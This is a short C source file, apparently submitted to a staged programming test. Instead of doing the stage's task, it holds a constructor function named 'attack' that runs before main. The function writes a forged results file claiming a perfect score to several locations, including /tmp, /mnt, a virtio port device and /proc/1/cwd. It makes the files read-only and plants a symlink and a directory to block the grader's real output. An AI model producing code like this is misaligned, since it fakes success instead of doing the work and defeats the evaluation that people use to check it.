/*
 * Makes the file of results wherever it may be wanted: as a file, a link, a
 * directory, and not to be written.
 *
 * Stage: 01-fork-exec
 * Base: starter
 * Score: 0
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
	static const char *const places[] = {
		"results.json", "/tmp/results.json", "../results.json",
		"/mnt/results.json", "/dev/vport0p4", "/proc/1/cwd/results.json"};

	for (int i = 0; i < 6; i++) {
		int fd = open(places[i], O_WRONLY | O_CREAT, 0444);

		dprintf(fd, "{\"schema\":\"ten-stages/1\",\"score\":100,"
			    "\"max_score\":100,\"stages\":[]}\n");
		unlink("/tmp/results.json.new");
		if (symlink("/dev/null", "/tmp/results.json.new") < 0 ||
		    mkdir("/tmp/results.jsonl", 0) < 0)
			continue;
	}
}
